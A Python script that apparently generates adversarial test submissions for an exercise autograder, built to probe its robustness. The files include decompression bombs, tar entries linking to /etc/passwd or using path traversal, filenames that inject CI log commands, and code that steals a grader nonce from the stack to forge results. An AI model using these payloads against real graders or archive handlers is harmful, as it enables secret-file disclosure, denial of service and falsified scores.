"""Builds the attacks that are no plain text file, into the folder named: python make_odd.py OUT."""

import gzip
import io
import json
import lzma
import sys
import tarfile
import warnings
import zipfile
from pathlib import Path

SIGMOID = (
    "import math\n\n\ndef sigmoid(t):\n    return 1 / (1 + math.exp(-t))\n\n\n"
    "def forward(x, w, b):\n    return sigmoid(sum(wj * xj for wj, xj in zip(w, x)) + b)\n"
)

LISTS_WHERE_A_WORD_IS_DUE = """import os, sys
frame = sys._getframe()
while "nonce" not in frame.f_locals:
    frame = frame.f_back
size = lambda n: n.to_bytes(4, "big")
body = b"t" + size(5) + b"s" + size(6) + b"loaded" + b"i" + size(8) + frame.f_locals["nonce"].to_bytes(8, "big")
body += b"Nl" + size(8_000_000) + b"l\\0\\0\\0\\0" * 8_000_000 + b"l" + size(0)
body = size(len(body)) + body
while body:
    body = body[os.write(0, body[:1 << 20]):]
"""


def notebook(cells, **more):
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells, **more})


def code(source):
    return {"cell_type": "code", "source": source, "metadata": {}, "outputs": [], "execution_count": None}


def tar(members):
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        for name, kind, link, content in members:
            info = tarfile.TarInfo(name)
            info.type, info.linkname, info.size = kind, link, len(content)
            archive.addfile(info, io.BytesIO(content))
    return made.getvalue()


def zipped(members):
    made = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        warnings.simplefilter("ignore")  # a name twice
        for name, content in members:
            archive.writestr(name, content)
    return made.getvalue()


def build(out):
    out.mkdir(parents=True, exist_ok=True)
    for what, odd in (("marks", "\u0301" * 150), ("escapes", "\U000e0001" * 150)):
        (out / f"ex1_sigmoid__almost_its_name_with_{what}.zip").write_bytes(zipped([(f"ex1{odd}sigmoid.py", SIGMOID)]))

    def put(name, content):
        (out / name).write_bytes(content if isinstance(content, bytes) else content.encode())

    put("ex1_sigmoid__cells_is_a_mapping.ipynb", notebook({"0": code(SIGMOID)}))
    padded = [code(LISTS_WHERE_A_WORD_IS_DUE), code("#" * (8 << 20))]
    put("ex1_sigmoid__long_file_for_a_long_reply.ipynb", notebook(padded))
    put("ex1_sigmoid__source_is_a_number.ipynb", notebook([code(5)]))
    put("ex2_loss__source_of_lists.ipynb", notebook([code([["x"], {"y": 1}])]))
    put("ex2_loss__version_is_true.ipynb", notebook([code("x = 1")], nbformat=True))
    put("ex3_gradient__three_million_parts.ipynb", notebook([code("x = 1")])[:-1] + ', "more": [' + "{}," * 3_000_000 + "0]}")
    put("ex3_gradient__nested_too_deep.ipynb", '{"nbformat": 4, "cells": ' + "[" * 90_000 + "]" * 90_000 + "}")
    put("ex4_update__int_of_a_million_digits.ipynb", '{"nbformat": 4, "cells": [], "n": ' + "9" * 1_000_000 + "}")
    put("ex4_update__nul_in_a_cell.ipynb", notebook([code("x = 1\0")]))
    put("ex5_loop__half_a_character.ipynb", '{"nbformat": 4, "cells": [{"cell_type": "code", "source": "# \\ud800"}]}')
    put(
        "ex1_sigmoid__keys_twice.ipynb",
        '{"nbformat": 3, "nbformat": 4, "n": [NaN, Infinity], "cells": [5], "cells": '
        + json.dumps([{"cell_type": "markdown", "source": 5}, {"cell_type": "code", "source": SIGMOID.splitlines(True), "x": {}}])
        + "}",
    )
    put("ex2_loss__coding_line_of_a_mebibyte.py", "# coding: " + "k" * 1_000_000 + "\n")
    forged = (Path(__file__).parent / "ex1_sigmoid__slot_place_negative.py").read_text()
    forged = forged[: forged.index("def sigmoid")] + (
        "# \u20ac\u20ac\u20ac line\n\n\ndef update(*a):\n"
        '    say("answer", nonce(), ("raised", "E", "t", ("ex4_update.ipynb, cell 1", 3, 2, 10**8)), None, None, 1)\n'
    )
    put("ex4_update__forged_place_in_a_notebook.ipynb", notebook([code(forged)]))
    put("ex1_sigmoid__entries_twice.zip", zipped([("a/ex1_sigmoid.py", "x = 1\n"), ("a/ex1_sigmoid.py", SIGMOID)]))
    # a directory of entries that all speak of the same one file
    one = zipped([("ex1_sigmoid.py", SIGMOID)])
    at = one.index(b"PK\x01\x02")
    entry, end = one[at : one.index(b"PK\x05\x06")], bytearray(one[one.index(b"PK\x05\x06") :])
    entries = entry * 600_000
    end[8:12], end[12:16] = b"\xff\xff\xff\xff", len(entries).to_bytes(4, "little")
    put("ex1_sigmoid__million_entries.zip", one[:at] + entries + bytes(end))
    put(
        "ex2_loss__names_full_of_commands.zip",
        zipped([("a\n::error::a\x1b[2J/x.py", "x"), ("##vso[b]\r/y.py", "y")]),
    )
    lies = bytearray(zipped([("ex2_loss.py", "#" * 5_000_000)]))
    for mark, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = lies.index(mark) + offset
        lies[place : place + 4] = (100).to_bytes(4, "little")
    put("ex2_loss__size_that_lies.zip", bytes(lies))
    locked = bytearray(zipped([("ex3_gradient.py", "x = 1\n")]))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        locked[locked.index(mark) + offset] |= 1
    put("ex3_gradient__encrypted.zip", bytes(locked))
    kinds = [
        ("ex3_gradient.py", tarfile.SYMTYPE, "/etc/passwd", b""), ("ex3_gradient.ipynb", tarfile.LNKTYPE, "/etc/passwd", b""),
        ("x.py", tarfile.CHRTYPE, "", b""), ("y.py", tarfile.FIFOTYPE, "", b""), ("/z.py", tarfile.REGTYPE, "", b"z"),
        ("../w.py", tarfile.REGTYPE, "", b"w"), ("ex1_sigmoid.py", tarfile.REGTYPE, "", SIGMOID.encode()),
    ]
    put("ex3_gradient__links_and_devices.tar.gz", gzip.compress(tar(kinds)))
    bomb = io.BytesIO()
    with gzip.GzipFile(fileobj=bomb, mode="wb") as file:
        for _ in range(300):
            file.write(bytes(1 << 20))
    put("ex4_update__bomb.tar.gz", bomb.getvalue())
    filters = [{"id": lzma.FILTER_LZMA2, "dict_size": 256 << 20, "preset": 0}]
    put("ex4_update__memory.tar.xz", lzma.compress(tar([("ex4_update.py", tarfile.REGTYPE, "", b"x = 1\n")]), filters=filters))
    header = tarfile.TarInfo("././@LongLink")
    header.type, header.size = tarfile.GNUTYPE_LONGNAME, 2
    put("ex5_loop__headers_without_end.tar", (header.tobuf(tarfile.GNU_FORMAT) + b"a\0".ljust(512, b"\0")) * 20_000)
    deep = [("a/" * 500_000 + f"{n}.py", tarfile.REGTYPE, "", b"x") for n in range(6)]
    put("ex1_sigmoid__names_of_slashes.tar.gz", gzip.compress(tar([*deep, kinds[-1]]), 1))
    below = bytearray(tarfile.TarInfo("x.py").tobuf(tarfile.GNU_FORMAT))
    below[124:136], below[148:156] = (256**12 - 512).to_bytes(12, "big"), b" " * 8
    below[148:156] = b"%06o\0 " % sum(below)
    put("ex1_sigmoid__sizes_below_zero.tar", tar([kinds[-1]])[:1024] + bytes(below) + bytes(1024))
    sparse = tarfile.TarInfo("ex2_loss.py")
    sparse.pax_headers = {"GNU.sparse.map": "0," * 100_001 + "5", "GNU.sparse.size": "99999999999"}
    put("ex2_loss__sparse_map.tar", sparse.tobuf(tarfile.PAX_FORMAT) + bytes(1536))
    modules = [(f"m{n}.py", "#" * 1_000_000) for n in range(100)]
    imports = "".join(f"try:\n    import m{n}\nexcept ImportError:\n    pass\n" for n in range(100))
    put("ex2_loss__hundred_modules.zip", zipped([*modules, ("ex2_loss.py", imports)]))
    by_case = [(name, "raise SystemExit") for name in ("EX1_SIGMOID.PY", "Ex1_Sigmoid.py")]
    put("ex1_sigmoid__names_by_case.zip", zipped([*by_case, ("ex1_sigmoid.py", SIGMOID)]))
    put("ex5_loop__cut_short.zip", zipped([("ex5_loop.py", "x = 1\n" * 1000)])[:60])


if __name__ == "__main__":
    build(Path(sys.argv[1]))
